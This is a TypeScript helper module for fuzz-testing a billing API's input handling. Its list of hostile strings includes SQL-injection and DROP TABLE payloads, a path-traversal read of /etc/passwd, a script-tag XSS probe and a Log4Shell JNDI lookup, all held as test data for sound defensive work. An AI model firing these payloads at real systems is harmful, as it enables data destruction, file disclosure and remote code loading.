/**
 * What the hostile-input tests share (test/api/fuzz.test.ts for the native API,
 * test/compat/fuzz-compat.test.ts for the compatibility surfaces): their size and seed, the
 * strings an attacker or a broken client sends, any JSON value, a stack trace's look, and
 * the footprint a request leaves in the database, by which a refusal is shown to write
 * nothing.
 */
import fc from "fast-check";
import { type Kysely, sql } from "kysely";
import type { DB } from "../src/storage/schema.js";

/**
 * Requests per route: `ACCRUE_FUZZ_SAMPLES`, or the test's own small default. The long
 * variant: `ACCRUE_FUZZ_SAMPLES=200 ACCRUE_FUZZ_SEED=<any> npm test -- test/api/fuzz`.
 */
export function fuzzSamples(byDefault: number): number {
  return Number(process.env.ACCRUE_FUZZ_SAMPLES ?? byDefault);
}

/** The seed of every fuzz test: `ACCRUE_FUZZ_SEED`, or a fixed one. */
export const FUZZ_SEED = Number(process.env.ACCRUE_FUZZ_SEED ?? 4242);

/** Strings an attacker or a broken client sends. */
export const nasty = fc.oneof(
  fc.constantFrom(
    "",
    " ",
    "' OR '1'='1",
    "'; DROP TABLE customers; --",
    "\\",
    '"',
    "../../etc/passwd",
    "%00",
    "\u202e\u0000",
    "<script>alert(1)</script>",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
    "${jndi:ldap://x}",
    "NaN",
    "-1",
    "1e309",
    "99999999999999999999999999",
    "0x10",
    "cus_01ZZZZZZZZZZZZZZZZZZZZZZZZ",
    "con_01M00000000000000000000000",
    "2026-02-30T00:00:00Z",
    "9999-12-31T23:59:59Z",
    // the supported range's bounds (docs/operations.md#limits), at and just beyond each
    "0000-01-01T00:00:00Z",
    "1999-12-31T23:59:59.999Z",
    "2000-01-01T00:00:00Z",
    "2199-12-31T23:59:59.999Z",
    "2200-01-01T00:00:00Z",
    "0001-01-01",
    "2200-01-01",
    "null",
    "true",
    "[]",
    "{}",
  ),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.integer({ min: 1, max: 4 }).map((k) => "x".repeat(k * 5000)),
);

/** Any JSON value, nasty strings included. */
export const anyJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small" },
    nasty,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.string({ maxLength: 12 }), tie("value"), { maxKeys: 4 }),
  ),
})).value;

/**
 * Dates and date-times at and beyond the supported range's bounds (docs/operations.md#limits),
 * and far beyond: what a field of a date must refuse with a 4xx.
 */
export const DATE_TIME_BOUNDS: readonly string[] = [
  "1999-12-31T23:59:59.999Z",
  "2000-01-01T00:00:00Z",
  "2199-12-31T23:59:59.999Z",
  "2200-01-01T00:00:00Z",
  "0000-01-01T00:00:00Z",
  "0001-01-01T00:00:00Z",
  "9999-12-31T23:59:59Z",
  "2000-01-01T00:30:00+01:00",
  "2199-12-31T23:30:00-01:00",
];
export const DATE_BOUNDS: readonly string[] = [
  "1999-12-31",
  "2000-01-01",
  "2199-12-31",
  "2200-01-01",
  "0000-01-01",
  "0001-01-01",
  "9999-12-31",
];

/** Numbers beyond what a field or the database column holds. */
export const HUGE_NUMBERS: readonly number[] = [
  2 ** 31,
  2 ** 53 - 1,
  2 ** 53,
  -(2 ** 53),
  1e21,
  1e308,
  -1e308,
  5e-324,
];

/** Where a schema-made value may take a known record's id (properties named `…_id`, `…Id`). */
export type SchemaValues = {
  /** Ids of real records, offered for id properties. */
  known: readonly string[];
  /** Whether a string property holds a date or date-time (besides `format`). */
  isDate?: (name: string | undefined, schema: any) => boolean;
};

/** Values at and just beyond a bound: `at` and the first value past it on each side given. */
const around = (at: number, step: number) => [at, at + step];

/**
 * A value of the schema's own type but hostile content: the strings, numbers and dates that
 * pass validation and must then be refused (or handled) by the operation itself, values at
 * and beyond each documented bound (length, minimum, maximum, the date range), and now and
 * then a value of another type.
 */
export function schemaValue(
  schema: any,
  options: SchemaValues,
  depth = 0,
  name?: string,
): fc.Arbitrary<unknown> {
  if (!schema || depth > 3) return anyJson;
  return fc.oneof(
    { arbitrary: ofSchema(schema, options, depth, name), weight: 7 },
    // another type altogether
    { arbitrary: anyJson, weight: 1 },
  );
}

function ofSchema(
  schema: any,
  options: SchemaValues,
  depth: number,
  name?: string,
): fc.Arbitrary<unknown> {
  const variants = schema.anyOf ?? schema.oneOf;
  if (Array.isArray(variants)) {
    return fc.oneof(...variants.map((v: any) => ofSchema(v, options, depth + 1, name)));
  }
  if (Array.isArray(schema.enum)) return fc.constantFrom(...schema.enum);
  if (schema.const !== undefined) return fc.constant(schema.const);
  switch (schema.type) {
    case "string": {
      const shaped: fc.Arbitrary<unknown>[] = [
        nasty,
        fc.constantFrom("0", "-0.000001", "1e3", "12345678901234567890.123456789", "EUR", "DE"),
      ];
      // values that pass the schema's own checks, so the operation behind them is reached
      if (typeof schema.pattern === "string") {
        shaped.push(fc.stringMatching(new RegExp(schema.pattern)).filter((v) => v.length < 200));
      }
      const lengths: number[] = [];
      if (typeof schema.maxLength === "number" && schema.maxLength <= 100_000) {
        lengths.push(...around(schema.maxLength, 1));
      }
      if (typeof schema.minLength === "number" && schema.minLength > 0) {
        lengths.push(...around(schema.minLength, -1));
      }
      if (lengths.length > 0) shaped.push(fc.constantFrom(...lengths).map((n) => "7".repeat(n)));
      const dated = options.isDate?.(name, schema) ?? false;
      if (schema.format === "date-time" || dated) {
        shaped.push(
          fc.constantFrom(...DATE_TIME_BOUNDS),
          fc
            .date({ min: new Date("1900-01-01"), max: new Date("2200-01-01"), noInvalidDate: true })
            .map((d) => d.toISOString()),
        );
      }
      if (schema.format === "date" || dated) {
        shaped.push(
          fc.constantFrom(...DATE_BOUNDS),
          fc
            .date({ min: new Date("1900-01-01"), max: new Date("2200-01-01"), noInvalidDate: true })
            .map((d) => d.toISOString().slice(0, 10)),
        );
      }
      if (name && /(_id|Id)$/.test(name) && options.known.length > 0) {
        shaped.push(fc.constantFrom(...options.known));
      }
      return fc.oneof(...shaped);
    }
    case "integer":
    case "number": {
      const step = schema.type === "integer" ? 1 : 0.000001;
      const bounds: number[] = [...HUGE_NUMBERS, 0, -1];
      for (const key of ["minimum", "exclusiveMinimum"]) {
        if (typeof schema[key] === "number") bounds.push(...around(schema[key], -step));
      }
      for (const key of ["maximum", "exclusiveMaximum"]) {
        if (typeof schema[key] === "number") bounds.push(...around(schema[key], step));
      }
      return fc.oneof(
        schema.type === "integer" ? fc.integer() : fc.double({ noNaN: true }),
        fc.constantFrom(...bounds),
      );
    }
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array": {
      const most = typeof schema.maxItems === "number" ? schema.maxItems : null;
      const items = schemaValue(schema.items, options, depth + 1, name);
      return fc.oneof(
        { arbitrary: fc.array(items, { maxLength: 3 }), weight: 4 },
        // one more row than the schema allows
        ...(most !== null && most <= 60
          ? [
              {
                arbitrary: fc.array(items, { minLength: most + 1, maxLength: most + 1 }),
                weight: 1,
              },
            ]
          : []),
      );
    }
    case "object":
      return schemaObject(schema, options, depth + 1);
    default:
      return anyJson;
  }
}

/** An object of the schema's properties (the required ones always), each of its own type. */
export function schemaObject(schema: any, options: SchemaValues, depth = 0): fc.Arbitrary<unknown> {
  const properties = (schema?.properties ?? {}) as Record<string, unknown>;
  const names = Object.keys(properties);
  if (names.length === 0)
    return fc.dictionary(fc.string({ maxLength: 12 }), anyJson, { maxKeys: 4 });
  return fc.record(
    Object.fromEntries(names.map((p) => [p, schemaValue(properties[p], options, depth, p)])),
    { requiredKeys: ((schema.required ?? []) as string[]).filter((r) => names.includes(r)) },
  );
}

/**
 * A request body from the route's schema: of the right shape with hostile values, the
 * schema's names with any values, or anything at all.
 */
export function schemaBody(
  schema: Record<string, unknown> | null,
  options: SchemaValues,
): fc.Arbitrary<unknown> {
  const properties = Object.keys((schema?.properties as Record<string, unknown>) ?? {});
  const named =
    properties.length === 0
      ? fc.dictionary(fc.string({ maxLength: 12 }), anyJson, { maxKeys: 4 })
      : fc.record(Object.fromEntries(properties.map((p) => [p, anyJson])), {
          requiredKeys: [],
        });
  const shaped = schemaObject(schema, options, 0);
  return fc.oneof(shaped, shaped, named, anyJson);
}

/** An answer that shows a stack frame, a dependency's path or the word "stack". */
export const looksLikeStackTrace = (text: string) =>
  /\bat .+\.(ts|js):\d+|node_modules|stack/i.test(text);

/**
 * The tables most operations write (besides the audit records, always counted): what the
 * native API's fuzzing counts. Counting every table costs a few times as much a request.
 */
export const OPERATION_TABLES: readonly string[] = [
  "outbox_events",
  "customers",
  "contracts",
  "orders",
  "invoices",
  "usage_records",
  "plan_groups",
  "webhook_endpoints",
  "api_keys",
];

/**
 * Tables whose rows a refused request may leave behind: the request counters of the rate
 * limits and the answers kept for idempotent replays. Audit records are counted apart: a
 * refusal is audited, but never as succeeded.
 */
const BOOKKEEPING = new Set(["rate_limit_buckets", "idempotency_keys", "audit_events"]);

const everyTable = new WeakMap<Kysely<DB>, Promise<string[]>>();

/**
 * What the database holds, by table: the succeeded audit records and the rows of `tables`
 * ("every": each table of the schema but the bookkeeping above). {@link written} compares
 * two of them.
 */
export async function footprint(
  db: Kysely<DB>,
  tables: readonly string[] | "every" = OPERATION_TABLES,
): Promise<Record<string, string>> {
  let names = tables;
  if (names === "every") {
    let found = everyTable.get(db);
    if (!found) {
      found = sql<{ name: string }>`
        SELECT table_name AS name FROM information_schema.tables
        WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'
        ORDER BY table_name`
        .execute(db)
        .then(({ rows }) => rows.map((r) => r.name).filter((name) => !BOOKKEEPING.has(name)));
      everyTable.set(db, found);
    }
    names = await found;
  }
  const counts = names.map(
    (name) => sql`(SELECT count(*) FROM ${sql.table(name)})::text AS ${sql.ref(name)}`,
  );
  const { rows } = await sql<Record<string, string>>`
    SELECT (SELECT count(*) FROM audit_events WHERE outcome = 'succeeded')::text AS audit_events,
           ${sql.join(counts)}`.execute(db);
  return rows[0]!;
}

/** The tables whose row counts differ between two footprints: what a request wrote. */
export function written(before: Record<string, string>, after: Record<string, string>): string[] {
  return Object.keys(after).filter((table) => after[table] !== before[table]);
}
